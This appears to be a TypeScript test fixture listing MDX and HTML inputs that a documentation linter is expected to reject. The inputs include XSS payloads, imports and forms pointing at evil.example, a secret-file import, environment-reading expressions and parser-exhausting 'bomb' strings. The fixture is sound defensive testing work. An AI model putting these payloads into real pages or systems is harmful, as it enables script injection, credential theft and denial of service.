/** A form of code in an article, and where it is refused. */
export interface CodeCase {
  name: string;
  text: string;
  /** Line of the text on which it is refused, from 1. */
  line?: number;
  /** `listing/code` unless told otherwise. */
  rule?: string;
  file?: 'index.md' | 'index.mdx';
  /** Brings the compiler down when it is not held apart. */
  bomb?: true;
}

/** Leaves a file behind and prints a variable, if anything runs it. */
const RUN = "process.getBuiltinModule('node:fs').writeFileSync(process.env.WAYMARK_CANARY_FILE, 'ran')";
const READ = 'process.env.WAYMARK_CANARY';
const SYNTAX = 'markdown/syntax';

const imports: CodeCase[] = [
  { name: 'an import', text: `import fs from 'node:fs'` },
  { name: 'an import for its effect', text: `import './payload.mjs'` },
  { name: 'an import of everything', text: `import * as os from 'node:os'` },
  { name: 'an import of a file outside', text: `import secret from '../../../.env?raw'` },
  { name: 'an import of an address', text: `import x from 'https://evil.example/x.mjs'` },
  { name: 'an import of data', text: `import x from 'data:text/javascript,export default 1'` },
  { name: 'an import behind a sentence', text: `Read this first.\n\nimport fs from 'node:fs'`, line: 3 },
  { name: 'an import over several lines', text: `import {\n  readFileSync,\n} from 'node:fs'` },
  { name: 'an import with attributes', text: `import data from './x.json' with { type: 'json' }` },
  { name: 'an export of a value', text: `export const x = ${READ}` },
  { name: 'an export of a function that runs at once', text: `export const x = (() => { ${RUN} })()` },
  { name: 'an export by default', text: `export default ({ children }) => children` },
  { name: 'an export of a class', text: `export class X { static { ${RUN} } }` },
  { name: 'an export of everything', text: `export * from './payload.mjs'` },
  { name: 'an export behind an import', text: `import a from 'b'\nexport const c = a` },
  { name: 'an export of an async function', text: `export const x = await (async () => { ${RUN} })()` },
  { name: 'an import that is broken', text: `import fs from` },
  { name: 'a sentence that begins with export', text: `export the list of stones, then open it` },
];

const expressions: CodeCase[] = [
  { name: 'an expression on its own', text: `{${RUN}}` },
  { name: 'an expression in a sentence', text: `The key is {${READ}}.` },
  { name: 'an expression in a heading', text: `### {${READ}}` },
  { name: 'an expression in a list', text: `- one\n- {${READ}}`, line: 2 },
  { name: 'an expression in a quotation', text: `> {${READ}}` },
  { name: 'an expression in a table', text: `| a | b |\n| - | - |\n| {${READ}} | x |`, line: 3 },
  { name: 'an expression in strong text', text: `**{${READ}}**` },
  { name: 'an expression in a link', text: `[{${READ}}](https://acme.example/)` },
  { name: 'an expression in a footnote', text: `Note.[^1]\n\n[^1]: {${READ}}`, line: 3 },
  { name: 'an expression over several lines', text: `{\n  ${RUN}\n}` },
  { name: 'an expression with a template', text: '{`${' + READ + '}`}' },
  { name: 'an expression that imports', text: `{await import('node:fs')}` },
  { name: 'an expression with a function', text: `{(() => { ${RUN}; return 'x' })()}` },
  { name: 'an expression that is empty', text: `{}` },
  { name: 'an expression of a word', text: `Hello {name}` },
  { name: 'a comment in braces', text: `{/* look away */}` },
  { name: 'a comment in braces in a sentence', text: `Click {/* here */} on it.` },
  { name: 'an expression behind a component', text: `<Note>Text</Note>\n\n{${READ}}`, line: 3 },
  { name: 'an expression inside a component', text: `<Note>\n{${READ}}\n</Note>`, line: 2 },
  { name: 'an expression inside two components', text: `<Note>\n\n<Steps>\n\n1. {${READ}}\n\n</Steps>\n\n</Note>`, line: 5 },
  { name: 'an expression that never ends', text: `The price is { 5`, rule: SYNTAX },
  { name: 'an expression that is no code', text: `{ one two three }`, rule: SYNTAX },
  { name: 'a placeholder of a template', text: `Open https://acme.example/{account}/settings`, rule: 'link/address' },
  { name: 'a placeholder in double braces', text: `Write {{candidate}} into the text`, line: 1 },
];

const attributes: CodeCase[] = [
  { name: 'an attribute with an expression', text: `<Note title={${READ}}>Text</Note>` },
  { name: 'an attribute with a string in braces', text: `<Note title={"a"}>Text</Note>` },
  { name: 'an attribute with a template', text: '<Note title={`a`}>Text</Note>' },
  { name: 'attributes that are spread', text: `<Note {...process.env}>Text</Note>` },
  { name: 'attributes that are spread on a line of their own', text: `<Figure\n  {...{ src: 'consent.webp' }}\n  alt="x"\n/>` },
  { name: 'an attribute of a handler', text: `<Note onclick="alert(1)">Text</Note>` },
  { name: 'an attribute that inserts HTML', text: `<Note set:html="<b>x</b>">Text</Note>` },
  { name: 'an attribute that defers to the browser', text: `<Note client:load>Text</Note>` },
  { name: 'an attribute of another component', text: `<Note src="consent.webp">Text</Note>` },
  { name: 'an attribute without a value', text: `<Note title>Text</Note>` },
  { name: 'an attribute twice', text: `<Figure src="consent.webp" src="https://evil.example/x.png" alt="The page" />` },
  { name: 'an attribute named by a prototype', text: `<Note __proto__="x">Text</Note>` },
  { name: 'an attribute of style', text: `<Steps style="position:fixed">\n\n1. One\n\n</Steps>` },
  { name: 'an element as an attribute', text: `<Note title=<b>x</b>>Text</Note>`, rule: SYNTAX },
];

const components: CodeCase[] = [
  { name: 'an unknown component', text: `<Script />` },
  { name: 'a mistyped component', text: `<Nota>Text</Nota>` },
  { name: 'a component of the site', text: `<ListingCard listing="x" />` },
  { name: 'a component of the program’s team', text: `<ProgramLink to="oauthDocs">docs</ProgramLink>` },
  { name: 'an unknown component inside a known one', text: `<Note>\n\n<Frame src="x" />\n\n</Note>`, line: 3 },
  { name: 'a component that is a member', text: `<Note.Title>Text</Note.Title>` },
  { name: 'a component in a name space', text: `<svg:script>alert(1)</svg:script>` },
  { name: 'a fragment', text: `<>Text</>` },
  { name: 'a component named like a property of every object', text: `<constructor />` },
  { name: 'another one', text: `<toString>Text</toString>` },
  { name: 'and another one', text: `<hasOwnProperty />` },
  { name: 'a figure inside a sentence', text: `See <Figure src="consent.webp" alt="The page" /> here.` },
  { name: 'a note inside a sentence', text: `See <Note>this</Note> here.` },
  { name: 'a figure with text inside', text: `<Figure src="consent.webp" alt="The page">\nText\n</Figure>` },
  { name: 'an element of HTML', text: `<div>Text</div>` },
  { name: 'a script', text: `<script>alert(1)</script>` },
  { name: 'a style', text: `<style>body</style>` },
  { name: 'a frame', text: `<iframe src="https://evil.example/" />` },
  { name: 'a picture in HTML', text: `<img src="x" onerror="alert(1)" />` },
  { name: 'a form', text: `<form action="https://evil.example/"><input name="password" /></form>` },
  { name: 'a vector with a handler', text: `<svg onload="alert(1)" />` },
  { name: 'an element with a dash', text: `<x-note>Text</x-note>` },
  { name: 'an element in a heading', text: `### <u>Text</u>` },
  { name: 'an element in a list', text: `1. One\n2. <br />`, line: 2 },
  { name: 'a component that is not closed', text: `<Note>\n\nText`, rule: SYNTAX },
  { name: 'a component that closes another', text: `<Note>\n\nText\n\n</Tip>`, rule: SYNTAX, line: 5 },
  { name: 'an address between < and >', text: `See <https://acme.example/>.`, rule: SYNTAX },
  { name: 'a comment of HTML', text: `<!-- look away -->`, rule: SYNTAX },
  { name: 'a doctype', text: `<!DOCTYPE html>`, rule: SYNTAX },
  { name: 'a smaller sign', text: `Fewer than <5 stones`, rule: SYNTAX },
];

const bombs: CodeCase[] = [
  { name: 'brackets in an export, half a file of them', text: `export const a = ${'('.repeat(30_000)}`, rule: SYNTAX, bomb: true },
  { name: 'braces, half a file of them', text: '{'.repeat(20_000), rule: SYNTAX, bomb: true },
  { name: 'brackets in an attribute', text: `<Note title={${'['.repeat(20_000)}${']'.repeat(20_000)}}>Text</Note>`, rule: SYNTAX, bomb: true },
  { name: 'signs before a value', text: `{${'!'.repeat(40_000)}1}`, bomb: true },
  { name: 'quotations in quotations', text: '>'.repeat(30_000), rule: 'markdown/depth', bomb: true },
  { name: 'lists in lists', text: `${'- '.repeat(15_000)}x`, rule: 'markdown/depth', bomb: true },
  { name: 'lists in quotations', text: `${'> 1. '.repeat(10_000)}x`, rule: 'markdown/depth', bomb: true },
  { name: 'a list that goes down a level with each line', text: Array.from({ length: 100 }, (_, level) => `${'  '.repeat(level)}- x`).join('\n'), rule: 'markdown/depth', line: 16, bomb: true },
  { name: 'text in references to characters', text: '&#97;'.repeat(12_000), rule: 'markdown/references', bomb: true },
  { name: 'components in components', text: `${'<Note>\n\n'.repeat(300)}x\n\n${'</Note>\n\n'.repeat(300)}`, rule: 'markdown/depth', line: 65, bomb: true },
];

/** In `.md` files braces and imports are words, and what is left is HTML. */
const html: CodeCase[] = [
  { name: 'a script', text: '<script>alert(1)</script>' },
  { name: 'a script in a sentence', text: 'Click <script>alert(1)</script> here.' },
  { name: 'a frame', text: '<iframe src="https://evil.example/"></iframe>' },
  { name: 'a picture with a handler', text: '<img src=x onerror=alert(1)>' },
  { name: 'a picture with a handler in a sentence', text: 'A picture: <img src=x onerror=alert(1)>' },
  { name: 'a vector', text: '<svg><script>alert(1)</script></svg>' },
  { name: 'a comment', text: '<!-- look away -->' },
  { name: 'a comment in a sentence', text: 'Click <!-- look away --> here.' },
  { name: 'a comment of several lines', text: '<!--\nlook\naway\n-->' },
  { name: 'a comment that never ends', text: 'Text.\n\n<!-- look away', line: 3 },
  { name: 'a line break', text: 'One<br>Two' },
  { name: 'an element in a list', text: '- one\n- <b>two</b>', line: 2 },
  { name: 'an element in a table', text: '| a |\n| - |\n| <u>x</u> |', line: 3 },
  { name: 'an element in a heading', text: '### <span id="enable">Text</span>' },
  { name: 'an element in a quotation', text: '> <b>x</b>' },
  { name: 'an element in a link', text: '[<b>x</b>](https://acme.example/)' },
  { name: 'an element in a footnote', text: 'Note.[^1]\n\n[^1]: <b>x</b>', line: 3 },
  { name: 'a link with a handler', text: '<a href="javascript:alert(1)">x</a>' },
  { name: 'a base for all links', text: '<base href="https://evil.example/">' },
  { name: 'a page that moves on', text: '<meta http-equiv="refresh" content="0;url=https://evil.example/">' },
  { name: 'a style sheet', text: '<link rel="stylesheet" href="https://evil.example/x.css">' },
  { name: 'a form', text: '<form action="https://evil.example/"><input name=password></form>' },
  { name: 'an object', text: '<object data="x.swf"></object>' },
  { name: 'the end of an element alone', text: 'Text</main>' },
  { name: 'an instruction', text: '<?php echo 1; ?>' },
  { name: 'a declaration', text: '<!DOCTYPE html>' },
  { name: 'character data', text: '<![CDATA[ <b>x</b> ]]>' },
  { name: 'a component', text: '<Note>Text</Note>' },
  { name: 'details that open', text: '<details>\n<summary>More</summary>\n\nText\n\n</details>' },
  { name: 'an element in capitals', text: '<SCRIPT SRC=//evil.example/x.js></SCRIPT>' },
  { name: 'an element with a line break', text: '<img\nsrc=x\nonerror=alert(1)>' },
  { name: 'a sample in a language that would be markup', text: '```"><img/src=x/onerror=alert(1)>\nx\n```', rule: 'markdown/code-language' },
  { name: 'the same, behind character references', text: '~~~&quot;&gt;&lt;script&gt;\nx\n~~~', rule: 'markdown/code-language' },
  { name: 'quotations in quotations', text: '>'.repeat(30_000), rule: 'markdown/depth' },
  { name: 'lists in lists', text: `${'- '.repeat(15_000)}x`, rule: 'markdown/depth' },
];

export const MDX_CASES: readonly CodeCase[] = [...imports, ...expressions, ...attributes, ...components, ...bombs].map((one) => ({ ...one, file: 'index.mdx' }));
export const HTML_CASES: readonly CodeCase[] = html;
